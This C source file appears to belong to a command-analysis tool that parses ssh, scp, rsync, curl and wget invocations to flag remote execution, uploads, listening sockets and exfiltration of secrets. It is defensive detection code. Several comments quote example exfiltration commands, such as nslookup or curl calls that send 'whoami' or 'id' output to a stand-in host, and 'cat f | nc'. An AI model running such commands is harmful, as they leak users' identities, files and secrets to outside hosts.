/* net.c -- the network family: hosts and URLs, ssh, remote copies (scp, rsync),
 * upload options, exfiltration and net_analysis.
 * Part of the intent walker: see walk.h and intent.h. */
#include "broker/intent/walk.h"
#include "broker/intent/fsresolve.h"
#include "broker/intent/globclass.h"
#include "broker/intent/codepaths.h"
#include "broker/intent/selfref.h"
#include "broker/intent/reqfiles.h"
#include "broker/intent/famtrig.h"

#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

void
wk_add_host_raw(struct intent_ctx *x, int i, const char *host, size_t n)
{
	struct intent_cmd *c = wk_cmd_at(x, i);
	struct intent_host *nh;
	enum hclass cls;
	char *h;

	if (c == NULL || n == 0 || n > 255)
		return;
	for (size_t k = 0; k < c->nhosts; k++)
		if (strlen(c->hosts[k].host) == n && strncasecmp(c->hosts[k].host, host, n) == 0)
			return;
	if (c->nhosts >= 16)
		return;
	if ((h = wk_xdup(x, host, n)) == NULL)
		return;
	cls = tables_host_class(x->t, h, n);
	nh = arena_grow(x->a, c->hosts, c->nhosts, &c->hcap, sizeof *nh);
	if (nh == NULL) {
		wk_oomf(x);
		return;
	}
	c->hosts = nh;
	c->hosts[c->nhosts++] = (struct intent_host){ h, cls };
	if (cls == HC_METADATA)
		wk_sig(x, i, "host-metadata");
	else if (cls == HC_EXFIL)
		wk_sig(x, i, "host-exfil");
}

/* Host part of "scheme://[user@]host[:port]/...", "[user@]host[:port]" or
 * "user@host:path"; false if there is none. */
static bool
host_of(const char *s, size_t n, const char **h, size_t *hn, bool bare)
{
	const char *p = s, *e = s + n, *ss = NULL;

	for (const char *q = s; q + 2 < e; q++) {
		if (q[0] == ':' && q[1] == '/' && q[2] == '/') {
			ss = q;
			break;
		}
		if (!(isalnum((unsigned char)*q) || *q == '+' || *q == '-' || *q == '.'))
			break;
	}
	if (ss != NULL && ss > s)
		p = ss + 3;
	else if (!bare)
		return false;
	{
		const char *end = p;
		const char *at;

		while (end < e && *end != '/' && *end != '?' && *end != '#')
			end++;
		at = memrchr(p, '@', (size_t)(end - p));
		if (at != NULL)
			p = at + 1;
		if (p < end && *p == '[') {
			const char *rb = memchr(p, ']', (size_t)(end - p));

			if (rb == NULL)
				return false;
			*h = p + 1;
			*hn = (size_t)(rb - p - 1);
			return *hn > 0;
		}
		{
			const char *colon = memchr(p, ':', (size_t)(end - p));

			if (colon != NULL)
				end = colon;
		}
		if (end == p)
			return false;
		for (const char *q = p; q < end; q++)
			if (!(isalnum((unsigned char)*q) || *q == '.' || *q == '-' || *q == '_' || *q == '$' || *q == '*'))
				return false;
		*h = p;
		*hn = (size_t)(end - p);
		return true;
	}
}

static bool
is_url(const char *s, size_t n)
{
	const char *h;
	size_t hn;

	return n > 3 && wk_find(s, n, "://", 3) != NULL && host_of(s, n, &h, &hn, false);
}

int
intent_add_url(struct intent_ctx *x, int i, const char *url, size_t len)
{
	const char *h;
	size_t hn;

	if (host_of(url, len, &h, &hn, true)) {
		wk_add_host_raw(x, i, h, hn);
		wk_loopback_port(x, i, url, len);
	}
	return x->oom ? -1 : 0;
}

/* ssh [options] HOST [COMMAND...] */
void
wk_h_ssh(struct an *an)
{
	struct intent_ctx *x = an->w->x;
	const struct rword *rw = an->rw;
	size_t n = an->n, k = 0;
	const char *host = NULL;

	while (k < n) {
		const struct rword *r = &rw[k];

		if (wk_word_is(r, "--")) {
			k++;
			break;
		}
		if (r->n < 2 || r->s[0] != '-')
			break;
		if (strchr("bcDEeFIiJLlmOopQRSWw", r->s[r->n - 1]) != NULL && r->n == 2 && k + 1 < n) {
			const struct rword *v = &rw[k + 1];

			if (r->s[1] == 'o') {
				static const char *const keys[] = { "ProxyCommand", "LocalCommand", "RemoteCommand" };

				for (size_t q = 0; q < 3; q++) {
					size_t kl = strlen(keys[q]);

					if (v->n > kl + 1 && strncasecmp(v->s, keys[q], kl) == 0 &&
					    (v->s[kl] == '=' || v->s[kl] == ' '))
						wk_nested_script(an->lw, an->ci, v->s + kl + 1, v->n - kl - 1, "ssh -o", NULL);
				}
			}
			k += 2;
			continue;
		}
		k++;
	}
	if (k < n) {
		const char *h;
		size_t hn;

		if (host_of(rw[k].s, rw[k].n, &h, &hn, true)) {
			wk_add_host_raw(x, an->ci, h, hn);
			host = wk_xdup(x, h, hn);
		}
		k++;
	}
	intent_add_effect(x, an->ci, EFF_REMOTE_EXEC);
	if (k < n) {
		size_t len = 0, o = 0;
		char *s;

		for (size_t j = k; j < n; j++)
			len += rw[j].n + 1;
		s = arena_alloc(x->a, len + 1);
		if (s == NULL) {
			wk_oomf(x);
			return;
		}
		for (size_t j = k; j < n; j++) {
			memcpy(s + o, rw[j].s, rw[j].n);
			o += rw[j].n;
			s[o++] = ' ';
		}
		s[o > 0 ? o - 1 : 0] = '\0';
		wk_sig(x, an->ci, "remote-exec");
		wk_nested_script(an->lw, an->ci, s, o > 0 ? o - 1 : 0, "ssh", host != NULL ? host : "?");
	} else {
		wk_sig(x, an->ci, "prog-remote");
		wk_cmd(an)->interactive = an->cc->stdin_from < 0 && !an->cc->has_stdin_file && an->cc->stdin_text == NULL;
	}
}

/* Is s "[user@]host:path" (scp, rsync)? */
static bool
remote_spec(const struct rword *r, const char **h, size_t *hn)
{
	const char *colon = memchr(r->s, ':', r->n), *slash = memchr(r->s, '/', r->n);

	if (colon == NULL || colon == r->s || (slash != NULL && slash < colon) || r->s[0] == '.')
		return false;
	if (r->n > 6 && memcmp(r->s, "rsync:", 6) == 0)
		return host_of(r->s, r->n, h, hn, false);
	return host_of(r->s, (size_t)(colon - r->s), h, hn, true);
}

void
wk_h_remote_copy(struct an *an)
{
	struct intent_ctx *x = an->w->x;
	const struct args *a = an->a;
	bool any = false, up = false;
	const char *h;
	size_t hn;

	for (size_t k = 0; k < a->npos; k++)
		if (remote_spec(a->pos[k], &h, &hn)) {
			wk_add_host_raw(x, an->ci, h, hn);
			any = true;
			if (k + 1 == a->npos)
				up = true;
		}
	if (a->npos == 0)
		return;
	if (!any) {
		wk_add_target(an->w, an->ci, a->pos[a->npos - 1], EFF_WRITE);
		for (size_t k = 0; k + 1 < a->npos; k++)
			wk_add_target(an->w, an->ci, a->pos[k], EFF_READ);
		return;
	}
	if (up) {
		wk_sig(x, an->ci, "prog-transfer");
		wk_sig(x, an->ci, "upload");
		intent_add_effect(x, an->ci, EFF_UPLOAD);
		for (size_t k = 0; k + 1 < a->npos; k++)
			if (!remote_spec(a->pos[k], &h, &hn))
				wk_add_target(an->w, an->ci, a->pos[k], EFF_READ);
		wk_check_exfil(an);
	} else {
		/* scp HOST:FILE .: a copy from another machine is a download */
		wk_sig(x, an->ci, "download");
		intent_add_effect(x, an->ci, EFF_DOWNLOAD);
		if (!remote_spec(a->pos[a->npos - 1], &h, &hn))
			wk_add_target(an->w, an->ci, a->pos[a->npos - 1], EFF_WRITE);
	}
}

/* Upload options (curl -d @file, wget --post-file): what they send.  2 when
 * they send local files (@file, -T, --upload-file, -F x=@file or <file, a
 * pipe), 1 when they send only data written on the command line (a JSON
 * body, -X POST), 3 for -X DELETE, 0 when nothing. */
static int
upload_opts(struct an *an)
{
	static const char *const file_opts[] = { "-T", "--upload-file", "--post-file", "--body-file", "-p", "-u" };
	struct intent_ctx *x = an->w->x;
	const struct args *a = an->a;
	bool up = false, sends = false;

	if (an->pg == NULL)
		return 0;
	for (size_t k = 0; k < a->nopts; k++) {
		const struct opt *o = &a->opts[k];
		const struct rword *v = o->val;
		bool file = false;

		if (!wk_in_list(&an->pg->up, o->name, o->nlen))
			continue;
		sends = true;
		if (v == NULL) {
			up = true; /* what it sends is not known */
			continue;
		}
		for (size_t j = 0; j < sizeof file_opts / sizeof file_opts[0]; j++)
			if (strlen(file_opts[j]) == o->nlen && memcmp(file_opts[j], o->name, o->nlen) == 0)
				file = true;
		{
			const char *at = memchr(v->s, '@', v->n);
			struct rword f = *v;

			if (at == NULL && (o->nlen == 2 ? memcmp(o->name, "-F", 2) == 0 :
			                      o->nlen == 6 && memcmp(o->name, "--form", 6) == 0)) {
				const char *lt = memchr(v->s, '<', v->n); /* -F 'x=<file': its contents */

				if (lt != NULL && lt > v->s && lt[-1] == '=')
					at = lt;
			}
			if (at != NULL && (at == v->s || at[-1] == '=')) {
				f.s = at + 1;
				f.n = v->n - (size_t)(at + 1 - v->s);
				f.unk_at = v->unk_at == SIZE_MAX ? SIZE_MAX : v->unk_at > (size_t)(at + 1 - v->s) ? v->unk_at - (size_t)(at + 1 - v->s) : 0;
				file = true;
			}
			if (file)
				up = true;
			if (file && wk_word_is(&f, "-")) {
				struct stdin_info si;

				wk_get_stdin_info(x, an->cc->stdin_from, &si);
				if (si.secret) {
					wk_sig(x, an->ci, "exfiltrate");
					intent_add_effect(x, an->ci, EFF_EXFILTRATE);
				}
			} else if (file) {
				wk_add_target(an->w, an->ci, &f, EFF_READ);
			}
		}
	}
	{
		const struct rword *m = wk_opt_value(a, "-X");

		if (m == NULL)
			m = wk_opt_value(a, "--request");
		if (m == NULL)
			m = wk_opt_value(a, "--method");
		if (m != NULL && !wk_word_is(m, "GET") && !wk_word_is(m, "HEAD") && !wk_word_is(m, "OPTIONS"))
			sends = true;
		/* DELETE removes what the URL names */
		if (m != NULL && !up && (wk_word_is(m, "DELETE") || wk_word_is(m, "delete") || wk_word_is(m, "PURGE")))
			return 3;
	}
	return up ? 2 : sends ? 1 : 0;
}

/* Secrets among the command's read targets while it sends data out. */
void
wk_check_exfil(struct an *an)
{
	struct intent_cmd *c = wk_cmd(an);

	for (size_t k = 0; k < c->ntargets; k++)
		if (c->targets[k].cls == PC_SECRET && c->targets[k].eff == EFF_READ) {
			wk_sig(an->w->x, an->ci, "exfiltrate");
			intent_add_effect(an->w->x, an->ci, EFF_EXFILTRATE);
			return;
		}
}

static bool
binds_all(const struct rword *r)
{
	return wk_word_is(r, "0.0.0.0") || wk_word_is(r, "::") || wk_word_is(r, "[::]") || wk_word_is(r, "*") ||
	       (r->n > 8 && memcmp(r->s, "0.0.0.0:", 8) == 0) || (r->n > 5 && memcmp(r->s, "[::]:", 5) == 0) ||
	       (r->n > 2 && memcmp(r->s, "*:", 2) == 0);
}

/* Network behaviour: URLs, hosts, downloads, uploads, listening. */
void
wk_net_analysis(struct an *an)
{
	struct intent_ctx *x = an->w->x;
	const struct args *a = an->a;
	uint64_t cls = an->pg != NULL ? an->pg->classes : 0;
	bool listen = false, all = false, up;
	int sends, xfer;

	for (size_t k = 0; k < a->nall; k++)
		if (is_url(a->all[k].s, a->all[k].n))
			intent_add_url(x, an->ci, a->all[k].s, a->all[k].n);
	for (size_t k = 0; k < a->ninl; k++)
		if (is_url(a->inl[k].s, a->inl[k].n))
			intent_add_url(x, an->ci, a->inl[k].s, a->inl[k].n);
	if (an->pg == NULL)
		return;
	/* a bare localhost:2375/... names a daemon's API too */
	if (an->pg->classes & (PCL(NET) | PCL(DOWNLOAD)))
		for (size_t k = 0; k < a->npos; k++)
			if (memchr(a->pos[k]->s, ':', a->pos[k]->n) != NULL && !is_url(a->pos[k]->s, a->pos[k]->n))
				wk_loopback_port(x, an->ci, a->pos[k]->s, a->pos[k]->n);
	wk_net_exfil(an); /* netexfil.c: nslookup $(whoami).x.com, curl https://x.com/$(id) */
	if (an->pg->hostfirst && a->npos > 0) {
		const char *h;
		size_t hn;

		if (host_of(a->pos[0]->s, a->pos[0]->n, &h, &hn, true))
			wk_add_host_raw(x, an->ci, h, hn);
	}
	for (size_t k = 0; k < an->pg->listen.n; k++)
		if (wk_has_flag(a, an->pg->listen.v[k], an->pg->long1)) {
			const struct rword *v = wk_opt_value(a, an->pg->listen.v[k]);

			listen = true;
			if (v != NULL && binds_all(v))
				all = true;
		}
	if ((cls & PCL(SERVER)) || listen) {
		for (size_t k = 0; k < a->nopts; k++)
			if (a->opts[k].val != NULL && binds_all(a->opts[k].val))
				all = true;
		for (size_t k = 0; k < a->npos; k++)
			if (binds_all(a->pos[k]))
				all = true;
		if (strcmp(an->pg->name, "http.server") == 0 && wk_opt_value(a, "-b") == NULL &&
		    wk_opt_value(a, "--bind") == NULL)
			all = true;
		intent_add_effect(x, an->ci, EFF_LISTEN);
		wk_sig(x, an->ci, all ? "listen-all" : (cls & PCL(FILESERVER)) ? "prog-fileserver" :
		               (cls & PCL(SERVER)) ? "prog-server" : "listen");
		if (cls & PCL(FILESERVER))
			wk_sig(x, an->ci, "prog-fileserver");
	}
	sends = upload_opts(an);
	up = sends == 2;
	xfer = FT_RUN(an->fam_off, TRANSFER) ? wk_transfer(an) : 0; /* transfer.c: rclone copy, aws s3 cp, ... */
	if (xfer == 0)
		xfer = wk_net_send(an); /* netsend.c: whois -h, finger @, lp -h, socat FILE TCP, cat f | nc */
	if (xfer == 2)
		up = true;
	else if (xfer == 3 && sends == 0)
		sends = 1;
	if (cls & (PCL(NET) | PCL(RAWNET) | PCL(REMOTE) | PCL(TRANSFER) | PCL(MAIL)))
		for (size_t k = 0; k < a->nall; k++)
			if (a->all[k].f & RW_FILEREAD) {
				/* curl -d "$(cat f)", rlogin -l "$(cat f)": a file's contents go out */
				up = true;
				if (a->all[k].f & RW_SECRETREAD) {
					wk_sig(x, an->ci, "exfiltrate");
					intent_add_effect(x, an->ci, EFF_EXFILTRATE);
				}
			}
	/* file:// URLs read local files */
	for (size_t k = 0; k < a->nall; k++)
		if (a->all[k].n > 7 && strncasecmp(a->all[k].s, "file://", 7) == 0) {
			struct rword f = a->all[k];

			f.s += 7;
			f.n -= 7;
			f.unk_at = f.unk_at == SIZE_MAX ? SIZE_MAX : f.unk_at > 7 ? f.unk_at - 7 : 0;
			wk_add_target(an->w, an->ci, &f, EFF_READ);
		}
	if (up) {
		intent_add_effect(x, an->ci, EFF_UPLOAD);
		wk_sig(x, an->ci, "upload");
		wk_check_exfil(an);
	} else if (sends) {
		/* a JSON body, -X POST: a request, no local file goes out */
		intent_add_effect(x, an->ci, EFF_NETWORK);
		wk_sig(x, an->ci, sends == 3 ? "net-delete" : "net-send");
	} else if ((cls & PCL(DOWNLOAD)) || xfer == 4) {
		if (wk_cmd(an)->nhosts > 0 || a->npos > 0) {
			intent_add_effect(x, an->ci, EFF_DOWNLOAD);
			wk_sig(x, an->ci, "download");
		}
	} else if ((cls & PCL(NET)) && !(cls & (PCL(SYSINFO) | PCL(VCS) | PCL(RAWNET) | PCL(REMOTE) | PCL(TRANSFER))) &&
	           wk_cmd(an)->nhosts > 0) {
		intent_add_effect(x, an->ci, EFF_NETWORK);
		wk_sig(x, an->ci, "network");
	}
}
